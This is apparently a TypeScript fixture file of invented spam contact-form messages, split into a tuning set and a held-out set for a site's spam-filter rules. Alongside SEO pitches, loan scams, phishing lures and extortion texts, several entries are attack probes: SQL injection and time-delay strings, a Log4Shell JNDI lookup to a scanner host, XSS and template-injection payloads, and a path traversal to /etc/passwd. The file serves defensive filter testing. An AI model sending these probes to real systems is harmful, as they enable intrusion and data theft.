import "server-only";
import type { SpamSample } from "./sample";

/** Invented spam. The rules were adjusted to these. */
export const spamSamples: SpamSample[] = [
  {
    name: "Mark Jensen",
    email: "mark.jensen@rankpilot.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hi, I noticed your website isn't ranking on the first page of Google for your main keywords. We are a team of SEO experts and can get you to the top within 90 days. Can I send you a free audit and our price list? Regards, Mark Jensen, Business Development",
  },
  {
    name: "Olivia Brown",
    email: "oliviabrown.seo@outbox.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hello Website Owner, I was going through your site and found some errors which stop it from getting proper traffic from Google, Yahoo and Bing. We can fix all of them at affordable prices. May I send you a quote? Please share your phone number.",
  },
  {
    name: "Rahul Verma",
    email: "rahul.webdev@outbox.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Dear business owner, We are an India based web design and development company with 12+ years of experience. We redesign websites in WordPress, Shopify, Magento at a very low cost. If you are interested, reply with your requirement and we will share our portfolio. Thanks, Rahul",
    circumstances: { elapsedMs: 1900 },
  },
  {
    name: "Jenny Clark",
    email: "jenny@linkvalley.example",
    eventType: "other",
    eventDate: "2026-12-01",
    message:
      "Hi there, I'm reaching out to ask whether you accept guest posts on your site. We can provide a 1000-word original article with one do-follow link to our client. What do you charge for a sponsored post? We are also interested in link insertion in old articles.",
  },
  {
    name: "Eric Jonas",
    email: "eric@talkvisitor.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Good day, my name is Eric and unlike a lot of emails you might get, I wanted to instead provide you with a word of encouragement. Your website looks great, but out of 100 visitors 98 leave without a trace. Talk With Visitor captures every lead the moment they land. CLICK HERE https://talkvisitor.example/go to try it now. If you'd like to unsubscribe click here https://talkvisitor.example/unsub?d=golden",
    circumstances: { honeypot: true },
  },
  {
    name: "CryptoProfit",
    email: "profit2026@cryptomail.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Earn $5,000 a day with our automated bitcoin trading robot! No experience needed. Guaranteed profit. Start here: https://bit.ly/3crYpt0x",
    circumstances: { honeypot: true, elapsedMs: 700 },
  },
  {
    name: "Williamtek",
    email: "williamtek@mailbox-ru.example",
    eventType: "birthday",
    eventDate: "1988-04-14",
    message:
      '<a href="https://casino-azart.example">best online casino</a> [url=https://casino-azart.example]best online casino bonus[/url]',
    circumstances: { honeypot: true, elapsedMs: 1200 },
  },
  {
    name: "Наталья",
    email: "sale@promo-baza.example",
    eventType: "other",
    eventDate: "1990-01-01",
    message:
      "Предлагаем рассылку по формам обратной связи. База 2 млн сайтов. Цена от 3000 руб. Подробнее на сайте https://rassylka-form.example Телеграм @formsender",
    circumstances: { honeypot: true },
  },
  {
    name: "Иван Кузнецов",
    email: "ivan@kuhni-zakaz.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Кухни на заказ от производителя! Скидка 30% до конца месяца. Бесплатный замер. Заходите https://kuhni-zakaz.example и https://kuhni-zakaz.example/akcii",
    circumstances: { elapsedMs: 900 },
  },
  {
    name: "王经理",
    email: "sales8@led-factory.example",
    eventType: "corporate",
    eventDate: "2026-11-25",
    message:
      "尊敬的老板，我们是深圳LED显示屏厂家，价格优惠，质量保证，支持OEM。欢迎加微信：led8888 了解详情。官网 https://led-factory.example",
  },
  {
    name: "JamesBoari",
    email: "jamesboari@freepost.example",
    eventType: "wedding",
    eventDate: "1967-08-21",
    message:
      'viagra without prescription <a href="http://pills-24.example/">buy viagra online</a> cheap generic cialis',
    circumstances: { honeypot: true, elapsedMs: 2100 },
  },
  {
    name: "gTyHnMjUkIlO",
    email: "k.jh.2.3.j4@outbox.example",
    eventType: "other",
    eventDate: "1954-03-09",
    message: "sdkjfhKJHdfkjweOIUqwe",
    circumstances: { honeypot: true },
  },
  {
    name: "XvPmQzRtLsWd",
    email: "xvpmq77@mailinator.com",
    eventType: "birthday",
    eventDate: "1971-11-30",
    message: "QwPlMxNzBvRtYs",
  },
  {
    name: "wQkLpRzXcVbN",
    email: "a.b.c.1.2@outbox.example",
    eventType: "wedding",
    eventDate: "2026-11-23",
    message: "hJkLpOiUyTrEwQaS",
  },
  {
    name: "Sample",
    email: "sample@email.example",
    eventType: "other",
    eventDate: "2000-01-01",
    message: "1' OR '1'='1' --",
  },
  {
    name: "admin' --",
    email: "x@scanner.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message: "1; WAITFOR DELAY '0:0:15' --",
    circumstances: { elapsedMs: 150 },
  },
  {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a probe
    name: "${jndi:ldap://x.scanner.example/a}",
    email: "x@scanner.example",
    eventType: "other",
    eventDate: "1970-01-01",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a probe
    message: "${jndi:ldap://x.scanner.example/a}",
    circumstances: { elapsedMs: 120 },
  },
  {
    name: '"><img src=x onerror=alert(1)>',
    email: "bug@scanner.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: '{{7*7}} "><img src=x onerror=alert(1)>',
  },
  {
    name: "QuickCapital Funding",
    email: "offers@quickcapital.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Hello, does your business need working capital? We provide unsecured business loans from $10,000 to $500,000 with no credit check and approval within 24 hours. Apply now at https://quickcapital.example/apply. To opt out reply STOP.",
  },
  {
    name: "Mr. Robert Anders",
    email: "robert.anders.loans@freepost.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Do you need an urgent loan of any kind? We offer loans at 3% interest rate to individuals and companies. Contact us today via WhatsApp +1 555 0100 with the amount needed and the duration. God bless.",
  },
  {
    name: "Amanda Stone",
    email: "amanda@clipmotion.example",
    eventType: "corporate",
    eventDate: "2026-11-27",
    message:
      "Hey, I just visited your site and thought it could use an explainer video. We make 60-second animated videos that increase conversions by 80%. This week only we have a 50% discount. Want to see examples? https://clipmotion.example/portfolio",
  },
  {
    name: "MichaelReeno",
    email: "michael.reeno@freepost.example",
    eventType: "birthday",
    eventDate: "1979-06-16",
    message: "Hello. And Bye. https://t.me/+casinobonus",
    circumstances: { elapsedMs: 1500 },
  },
  {
    name: "Kevin Lim",
    email: "kevin@shenzhen-audio.example",
    eventType: "corporate",
    eventDate: "2026-12-02",
    message:
      "Dear Sir/Madam, Glad to know you're in the market of speakers. We are a professional manufacturer of loudspeakers, mixers and stage lights in Guangzhou since 2006. CE, RoHS certified. Factory price, small MOQ. Shall I send you our latest catalog and price list? Best regards, Kevin, WeChat: kevinaudio",
  },
  {
    name: "Sophie Turner",
    email: "sophie@socialboostly.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Want 10,000 real Instagram followers in 48 hours? Real people, no bots, 100% safe. Plans start at $9. Order here: https://socialboostly.example Check our reviews!",
  },
  {
    name: "DominicBof",
    email: "dominicbof@mailbox-ru.example",
    eventType: "wedding",
    eventDate: "1983-12-07",
    message:
      "Hi, find something interesting for yourself: https://xrumer-base.example https://xrumer-base.example/news https://xrumer-base.example/top https://xrumer-base.example/win",
    circumstances: { honeypot: true },
  },
  {
    name: "Leonard Hughes",
    email: "leonard@growthcatalyst.example",
    eventType: "corporate",
    eventDate: "2026-11-30",
    message:
      "I'll keep this short. We help event entertainers book 15-20 extra gigs a month on autopilot, and you only pay for results. Worth a quick 10-minute call this week? You can pick a time here: https://cal.growthcatalyst.example/leonard",
  },
  {
    name: "Google Business Support",
    email: "verify@gbp-verify.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "URGENT: Your Google Business listing is about to be marked as permanently closed. Verify your listing now to avoid removal from Google Maps. Call our verification department or click https://gbp-verify.example/now",
  },
  {
    name: "Domain Renewal",
    email: "notice@domain-expiry.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "FINAL NOTICE: your domain goldenhour is expiring. Failure to complete your domain SEO registration may result in cancelation of this offer. Secure online payment: https://domain-expiry.example/pay?id=88123",
    circumstances: { honeypot: true },
  },
  {
    name: "Hacker Team",
    email: "anon@onionmail.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "PLEASE FORWARD THIS EMAIL TO SOMEONE IN YOUR COMPANY WHO IS ALLOWED TO MAKE IMPORTANT DECISIONS! We have hacked your website and extracted your databases. Send 0.3 BTC to our bitcoin address within 72 hours or we will leak your data to your customers.",
  },
  {
    name: "Tony",
    email: "tony@cleanpro-boston.example",
    eventType: "corporate",
    eventDate: "2026-11-25",
    message:
      "Good morning, we provide commercial cleaning services for offices in your area. Fully insured, background checked. Would you like a free no-obligation quote? Tony, CleanPro",
  },
  {
    name: "Steven Walsh",
    email: "steve@payrollplus.example",
    eventType: "corporate",
    eventDate: "2026-12-03",
    message:
      "Hi, is the owner available? You may qualify for up to $26,000 per employee in tax credits. No upfront fees, takes 10 minutes. Find out if you qualify: https://payrollplus.example/check",
  },
  {
    name: "Lily Zhang",
    email: "lily@promo-gifts.example",
    eventType: "corporate",
    eventDate: "2026-12-10",
    message:
      "Hello friend, Lily from Yiwu promo gifts. We produce LED bracelets, glow sticks, custom lanyards for party and event with your logo. Price from $0.12. Free samples. Please tell me your email or WhatsApp and I send catalogue.",
  },
  {
    name: "Ahmed Karim",
    email: "ahmed@appcrafters.example",
    eventType: "corporate",
    eventDate: "2026-11-26",
    message:
      "Hi there, are you looking for mobile app development? We build iOS and Android apps for small businesses starting from $999. Our developers work in your time zone. Let's schedule a quick call to discuss your requirements.",
  },
  {
    name: "kevinThink",
    email: "kevinthink@freepost.example",
    eventType: "birthday",
    eventDate: "1989-09-19",
    message:
      "Aviator game India - play for real money! Bonus 500% on first deposit. [b]Promo code WIN500[/b] http://aviator-win.example",
    circumstances: { elapsedMs: 1100 },
  },
  {
    name: "RobertAxomy",
    email: "robertaxomy@mailbox-ru.example",
    eventType: "wedding",
    eventDate: "1974-10-02",
    message: "Привет! Смотрите лучшие фильмы онлайн бесплатно в хорошем качестве https://kino-film.example",
    circumstances: { honeypot: true },
  },
  {
    name: "Lasertest",
    email: "noreply@backlinkfarm.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Buy 5000 high DA backlinks for $49. Rank your site fast. Monthly SEO packages. Order now https://backlinkfarm.example",
  },
  {
    name: "Support",
    email: "noreply@wallet-verify.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Your MetaMask wallet will be suspended. Verify your recovery phrase here: https://wallet-verify.example to avoid losing your crypto.",
    circumstances: { elapsedMs: 600 },
  },
  {
    name: "Winner",
    email: "lottery@eu-award.example",
    eventType: "birthday",
    eventDate: "1960-05-05",
    message:
      "CONGRATULATIONS!!! Your email has won 1,500,000 EUR in the international lottery. To claim your prize send your full name, address, and phone number to our agent Barrister James Cole: claims@eu-award.example",
  },
  {
    name: "Mrs. Aisha Gaddafi",
    email: "aisha.g@freepost.example",
    eventType: "other",
    eventDate: "1976-12-25",
    message:
      "Dear beloved, I am a widow with the sum of 27.5 million US dollars deposited in a bank and I need a trusted person to transfer this fund for investment in your country. You will get 30%. Reply for more details in strict confidence.",
  },
  {
    name: "Daniel Ortiz",
    email: "daniel@reviewraise.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hi! I help local businesses get more 5-star Google reviews and remove the negative ones. Our clients see an average growth of 300% in calls. First month free, cancel any time. Interested? Just reply YES.",
  },
  {
    name: "Marketing",
    email: "marketing@bulk-sms.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Bulk SMS & WhatsApp marketing, reach 1 lakh customers at just 9 paisa per SMS. Call now +91 555 010 0199",
    circumstances: { elapsedMs: 1400 },
  },
  {
    name: "Emma Wilson",
    email: "emma@wikicreators.example",
    eventType: "other",
    eventDate: "2026-12-04",
    message:
      "Hello, We create Wikipedia pages for musicians and brands. A Wikipedia page will boost your online reputation and help you rank on Google. Our experts have published 300+ pages. Prices start at $299, and you pay after approval.",
  },
  {
    name: "Alex",
    email: "alex@aiautomate.example",
    eventType: "corporate",
    eventDate: "2026-11-25",
    message:
      'Hey, what if an AI agent answered every enquiry on your website within 5 seconds, 24/7, and booked calls straight into your calendar? We set it up in 48h, no upfront cost. Reply "demo" and I\'ll send you a link.',
  },
  {
    name: "MarcusTiews",
    email: "marcustiews@freepost.example",
    eventType: "other",
    eventDate: "1991-07-17",
    message:
      "Здравствуйте! Займ на карту без отказа, деньги за 5 минут. Оформить: https://zaym-karta.example",
  },
  {
    name: "Karl-Heinz",
    email: "kh@kredit-sofort.example",
    eventType: "other",
    eventDate: "1985-08-08",
    message:
      "Sofortkredit ohne Schufa, Auszahlung in 24 Stunden! Jetzt beantragen: https://kredit-sofort.example",
  },
  {
    name: "Carmen Promo",
    email: "carmen@posiciona.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hola, soy Carmen de Posiciona. Hemos revisado su página web y no aparece en los primeros resultados de Google. Ofrecemos posicionamiento SEO desde 99 € al mes, sin permanencia. ¿Le envío una auditoría gratuita?",
  },
  {
    name: "Ricardo",
    email: "ricardo@emprestimo-ja.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Precisa de dinheiro rápido? Empréstimo sem consulta ao SPC, aprovado em 1 hora. Clique aqui: https://emprestimo-ja.example",
    circumstances: { honeypot: true },
  },
  {
    name: "Trade Show Leads",
    email: "sandra@expoattendees.example",
    eventType: "corporate",
    eventDate: "2026-12-08",
    message:
      'Hi, I\'m following up on my previous email about the attendee list of the Boston Wedding Expo. Would you like to acquire the list? Number of contacts: 8,214. Please let me know so that I can share the cost and further details. If not interested, reply "Leave out".',
  },
  {
    name: "https://best-bonus.example",
    email: "bonus@best-bonus.example",
    eventType: "birthday",
    eventDate: "1980-01-01",
    message: "free spins no deposit",
    circumstances: { elapsedMs: 500 },
  },
  {
    name: "Visit www.hot-deals.example now",
    email: "deals@hot-deals.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "Amazing deals on electronics up to 90% off. Free shipping today only!",
  },
  {
    name: "test",
    email: "test@guerrillamail.com",
    eventType: "other",
    eventDate: "2000-01-01",
    message: "test test test",
    circumstances: { elapsedMs: 900 },
  },
  {
    name: "asdfghjk",
    email: "asdf@10minutemail.com",
    eventType: "other",
    eventDate: "1900-01-01",
    message: "asdfghjkl qwertyuiop zxcvbnm",
  },
  {
    name: "JosephDah",
    email: "josephdah@freepost.example",
    eventType: "wedding",
    eventDate: "1977-07-07",
    message: "Free porn videos https://xxx.example/1 https://xxx.example/2 https://xxx.example/3",
    circumstances: { honeypot: true },
  },
  {
    name: "Kate Morgan",
    email: "kate@hostingdeal.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Is your website slow? Move to our blazing fast hosting: unlimited bandwidth, free SSL, free domain for $1.99/month. Migrate today https://hostingdeal.example",
    circumstances: { honeypot: true },
  },
  {
    name: "Press Office",
    email: "editor@topartistmag.example",
    eventType: "corporate",
    eventDate: "2026-11-28",
    message:
      'Congratulations! You have been selected to be featured in Top Artist Magazine\'s "10 Entertainers to Watch". A small publication fee of $490 applies. Please confirm by Friday to secure your spot: https://topartistmag.example/confirm',
  },
  {
    name: "Merchant Rates",
    email: "sales@swipeless.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Are you paying too much for credit card processing? Get a free terminal and rates as low as 0.5%. No contract, no hidden fees. Call today.",
  },
  {
    name: "Dylan",
    email: "dylan@merchdrop.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hey! Custom t-shirts and hoodies for your fans, no minimum, shipped in 5 days. Get 20% off your first order with code FANS20 at https://merchdrop.example",
  },
  {
    name: "Beatriz",
    email: "beatriz@importadora.example",
    eventType: "corporate",
    eventDate: "2026-11-26",
    message:
      "Buenos días, somos fabricantes de equipos de sonido profesional. Tenemos los mejores precios de fábrica y enviamos a todo el mundo. Solicite nuestro catálogo sin compromiso: https://importadora.example/catalogo",
  },
  {
    name: "Ashley from FundEasy",
    email: "ashley@fundeasy.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hi, this is Ashley, your business has been pre-approved for a line of credit up to $150K. Get the funds tomorrow: https://fundeasy.example/golden",
    circumstances: { elapsedMs: 2500 },
  },
  {
    name: "LkJhGfDsAzXc",
    email: "hj.we.r4@outbox.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "PoIuYtReWq",
    circumstances: { honeypot: true, elapsedMs: 400 },
  },
  {
    name: "Chloe",
    email: "chloe@voiceboost.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Spotify promotion that works! Get your songs on playlists with 500k listeners. 10,000 organic plays from $29 https://voiceboost.example",
  },
  {
    name: "Rankings Team",
    email: "team@mapsfirst.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Hi, we can put your business in the top 3 of Google Maps in 30 days or your money back. Reply with your business name for a free report.",
  },
  {
    name: "Eugene",
    email: "eugene@outbox.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "do you still use this form",
  },
  {
    name: "Hannah",
    email: "hannah@photoedit-house.example",
    eventType: "corporate",
    eventDate: "2026-11-27",
    message:
      "Dear Photographer, we are an image editing company from Bangladesh. We do color correction, background removal, wedding album retouching from $0.29 per image. Try us with 3 free images. 24 hour turnaround. Waiting for your kind reply.",
  },
  {
    name: "Bob",
    email: "bob@insure4less.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Save up to 45% on general liability insurance for DJs. Free quote in 5 minutes: https://insure4less.example/dj",
    circumstances: { elapsedMs: 1300 },
  },
  {
    name: "Viktor",
    email: "viktor@proxyhub.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "Private proxies, fast IPv4, from $0.5. https://proxyhub.example",
    circumstances: { honeypot: true, elapsedMs: 900 },
  },
  {
    name: "Tina",
    email: "tina.j@mentalwealth.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Manifest wealth while you sleep. This 7-minute brain wave ritual attracts money. Watch the free video before they take it down https://mentalwealth.example",
  },
  {
    name: "Michelle",
    email: "michelle@holidaylights.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hi, are you looking for someone to hang Christmas lights at your office this season? We are fully insured and have 10% off for new customers until the end of the month. Call or text us today for a free estimate!",
  },
  {
    name: "OfferBot",
    email: "offerbot@cheapmail.example",
    eventType: "birthday",
    eventDate: "1995-05-05",
    message: "🔥🔥 HOT OFFER 🔥🔥 iPhone 17 for $1 👉 www.phone-raffle.example 👈 only today",
    circumstances: { elapsedMs: 450 },
  },
  {
    name: "Jonathan",
    email: "jonathan@podcastguests.example",
    eventType: "corporate",
    eventDate: "2026-11-29",
    message:
      "Hi Leo, I host a podcast for creative entrepreneurs with 80,000 downloads a month and would love to have you as a guest. There is a one-time production fee of $350. You can grab a slot here: https://podcastguests.example/book",
  },
];

/** More of the same, which the rules were not adjusted to. */
export const heldOutSpam: SpamSample[] = [
  {
    name: "pHqghUme",
    email: "testing@scanner.example",
    eventType: "wedding",
    eventDate: "1967-01-01",
    message: "<script>alert(document.cookie)</script>",
    circumstances: { elapsedMs: 300 },
  },
  {
    name: "ZAP",
    email: "zap@scanner.example",
    eventType: "birthday",
    eventDate: "1970-01-01",
    message: "../../../../../../etc/passwd",
    circumstances: { honeypot: true, elapsedMs: 80 },
  },
  {
    name: "Data List Store",
    email: "lists@leadbarn.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "Hi, Would you be interested in buying an email list of 45,000 wedding planners and event managers in the USA? Each record includes name, phone, email and LinkedIn. 95% deliverability guaranteed. Let me know your target audience and I will send samples and pricing.",
  },
  {
    name: "Anna",
    email: "anna_sweet19@datehub.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hi dear, I'm alone tonight and looking for a man. See my hot photos here: https://datehub.example/anna19 I wait for you baby",
  },
  {
    name: "Hеllо Frоm Frееdоm",
    email: "fеedback@forms-eu.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hеllо! Did yоu knоw thаt it is pоssiblе tо sеnd соmmеrсiаl оffеrs tо mаnу соntасt fоrms? Wе оffеr tо tеst thе sеrviсе fоr frее. Tеlеgrаm @formmailing",
  },
  {
    name: "Copyright Dept",
    email: "legal@imageclaims.example",
    eventType: "other",
    eventDate: "2026-11-24",
    message:
      "Hello, you use copyrighted images of mine on your website without permission. This is illegal. Download the document with the links and my proof here: https://storage.imageclaims.example/evidence.zip Delete them now or I will sue you.",
  },
  {
    name: "Brightway Solar",
    email: "info@brightwaysolar.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Cut your electricity bill by 70%! Homeowners in Massachusetts qualify for free solar panels. Limited time. Check your zip code: https://brightwaysolar.example",
    circumstances: { elapsedMs: 2200 },
  },
  {
    name: "Brenda",
    email: "brenda.mills@freepost.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hi, I have a lot of experience as a virtual assistant and can do your bookkeeping, data entry, social media and customer support for $5 an hour. Let me know if you need any help and I will send my resume.",
  },
  {
    name: "Thomas Reed",
    email: "thomas@explainwell.example",
    eventType: "corporate",
    eventDate: "2026-11-30",
    message:
      "Quick question: who handles marketing at your company? I have an idea that could double the number of enquiries you get from your website. Is it OK if I send over a two-minute video? Thomas",
  },
  {
    name: "Julia",
    email: "julia.writes@contentpool.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Hello, I am Julia, a freelance content writer. I can write high quality, plagiarism-free blog posts and web copy for your business for $10 per 500 words. AI free guaranteed. Please see my samples: https://contentpool.example/julia",
  },
  {
    name: "PhilipKex",
    email: "philipkex@mailbox-ru.example",
    eventType: "other",
    eventDate: "1986-02-28",
    message:
      "Buy replica Rolex watches, free shipping worldwide https://replica-time.example Ray-Ban, Louis Vuitton -70%",
  },
  {
    name: "Nathan Brooks",
    email: "nathan.b@outreachly.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message:
      "Hi Leo, love what you're doing at Golden Hour. I help DJs and photographers fill their calendar with high-paying weddings using Facebook ads. We got a client in Texas 23 bookings in 60 days, guaranteed or you don't pay. Open to a chat?",
  },
  {
    name: "Peter",
    email: "peter.k@outbox.example",
    eventType: "other",
    eventDate: "2026-11-26",
    message:
      "I would like to buy your domain. Are you the owner? Is it for sale? Please tell me your best price.",
  },
  {
    name: "Linda",
    email: "linda@healthsecret.example",
    eventType: "birthday",
    eventDate: "1969-03-03",
    message:
      "Doctors hate this! Lose 30 pounds in 30 days with this one simple trick. Keto gummies free bottle https://healthsecret.example",
    circumstances: { honeypot: true },
  },
  {
    name: "Escort Service",
    email: "vip@nightclub-escort.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "VIP escort girls Boston New York 24/7 https://nightclub-escort.example",
    circumstances: { honeypot: true },
  },
  {
    name: "陈小姐",
    email: "chen@fapiao.example",
    eventType: "corporate",
    eventDate: "1999-09-09",
    message: "代开发票，正规真实，可验证后付款。微信 fp13800",
  },
  {
    name: "Mary, http://ranklift.example",
    email: "mary@ranklift.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message: "Do you want more traffic? We send 20,000 targeted visitors to your website for $40.",
  },
  {
    name: "uTrQwZxPkL",
    email: "tempuser9@yopmail.com",
    eventType: "wedding",
    eventDate: "2026-11-23",
    message: "hello hello",
    circumstances: { elapsedMs: 1000 },
  },
  {
    name: "Lucas",
    email: "lucas@trashmail.com",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "Make money from home! I earned $8,430 last month with this simple system: https://tinyurl.example/home-cash",
  },
  {
    name: "StephenSOB",
    email: "stephensob@mailbox-ru.example",
    eventType: "birthday",
    eventDate: "1982-05-24",
    message: "[url=https://stroy-dom.example]строительство домов под ключ[/url] недорого",
    circumstances: { elapsedMs: 1700 },
  },
  {
    name: "Gerald",
    email: "gerald.fx@freepost.example",
    eventType: "other",
    eventDate: "2026-11-23",
    message:
      "I was a broke student until Mrs. Clara Wood traded forex for me. I invested $500 and got $7,850 in one week. Contact her on Telegram @clarawoodfx or WhatsApp +1 555 0119. You will thank me later.",
  },
  {
    name: "Sara",
    email: "sara@eventdirectory.example",
    eventType: "corporate",
    eventDate: "2026-11-30",
    message:
      "Hello, we would like to list your business in our event directory with 2 million monthly visitors. The premium listing is 60% off this month. Get leads directly to your inbox. Sign up: https://eventdirectory.example/join",
  },
  {
    name: "Benjamin",
    email: "ben.fraud@freepost.example",
    eventType: "wedding",
    eventDate: "2027-03-14",
    message:
      "Hello, I want to book your service for my daughter's wedding on March 14. I will pay by credit card. I am hearing impaired so email only. I need a small favor: please charge $3,800 more on my card and forward it to the event planner, who has no card terminal. I'll add $200 for your stress.",
  },
  {
    name: "Yolanda",
    email: "yolanda@outbox.example",
    eventType: "wedding",
    eventDate: "2027-06-05",
    message:
      "Hi do you accept credit card? What is the name of the owner? Get back to me with total for 5 hours, my cashier check will be more than the amount, send the rest to the caterer by Zelle.",
  },
  {
    name: "Oleg",
    email: "oleg@xrumerservice.example",
    eventType: "other",
    eventDate: "1994-04-04",
    message: "XRumer 23 Strong AI: complete automation of posting and promotion https://xrumer.example",
    circumstances: { honeypot: true },
  },
  {
    name: "FrankLes",
    email: "frankles@freepost.example",
    eventType: "birthday",
    eventDate: "1972-08-15",
    message: "Get paid to click ads. Join here: http://clickpay.example/?ref=8812",
  },
  {
    name: "YhNjUmKiOlPq",
    email: "zz.top.a.b@outbox.example",
    eventType: "corporate",
    eventDate: "1963-02-11",
    message: "TgBnHyUjMkIoLp",
  },
  {
    name: "Gloria",
    email: "gloria@translators.example",
    eventType: "corporate",
    eventDate: "2026-12-01",
    message:
      "Dear Manager, we are a translation agency with native translators in 60 languages. Have you considered a multilingual website to increase your sales? Get 15% off on your first order. Looking forward to cooperation.",
  },
  {
    name: "Adam",
    email: "adam@docsign.example",
    eventType: "corporate",
    eventDate: "2026-11-23",
    message: "You have received a secure document. View document: https://docsign.example/view/7712",
    circumstances: { elapsedMs: 2000 },
  },
  {
    name: "Global Jobs",
    email: "hr@remotehire.example",
    eventType: "corporate",
    eventDate: "2026-11-24",
    message:
      "We are hiring! Work from home, $35/hour, part time, no experience. Text HR manager Linda on WhatsApp +1 555 0177 to apply.",
  },
];
